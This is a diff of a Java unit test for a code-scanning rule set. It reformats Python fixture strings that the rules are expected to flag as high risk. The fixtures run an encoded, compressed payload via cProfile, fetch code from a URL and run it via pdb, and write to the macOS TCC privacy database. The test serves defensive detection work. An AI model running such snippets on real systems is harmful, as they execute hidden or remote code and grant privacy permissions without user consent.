@@ -2355,8 +2355,8 @@ class ContentRuleTest {
   @Test
   void codeHandedToAProfilerOrTheDebuggerIsExecuted() {
     String profiled =
-        "import base64, cProfile, "
-            + "zlib\ncProfile.run(zlib.decompress(base64.b64decode(P)).decode())\n";
+        "import base64, cProfile, zlib\n"
+            + "cProfile.run(zlib.decompress(base64.b64decode(P)).decode())\n";
     String debugged = "import pdb, urllib.request\npdb.run(urllib.request.urlopen(URL).read())\n";
     String profiling = "import cProfile\ncProfile.run('main()', 'out.prof')\n";
     String calculator =
@@ -2490,16 +2490,16 @@ class ContentRuleTest {
     String tcc =
         "import os, sqlite3\n"
             + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
-            + "sqlite3.connect(db).execute(\"INSERT OR REPLACE INTO access VALUES (?, ?, 0, "
-            + "2)\", row)\n";
+            + "sql = \"INSERT OR REPLACE INTO access VALUES (?, ?, 0, 2)\"\n"
+            + "sqlite3.connect(db).execute(sql, row)\n";
     String ownBinary =
         "import subprocess\nsubprocess.run(['xattr', '-d', 'com.apple.quarantine', "
             + "BUNDLED_DRIVER])\n";
     String tccRead =
         "import os, sqlite3\n"
             + "db = os.path.expanduser('~/Library/Application Support/com.apple.TCC/TCC.db')\n"
-            + "rows = sqlite3.connect(db).execute('SELECT service, client FROM "
-            + "access').fetchall()\n";
+            + "sql = 'SELECT service, client FROM access'\n"
+            + "rows = sqlite3.connect(db).execute(sql).fetchall()\n";
 
     assertThat(levelIn(quarantine, "downloads-past-gatekeeper")).isEqualTo(RiskLevel.HIGH);
     assertThat(levelIn(tcc, "grants-privacy-permissions")).isEqualTo(RiskLevel.HIGH);
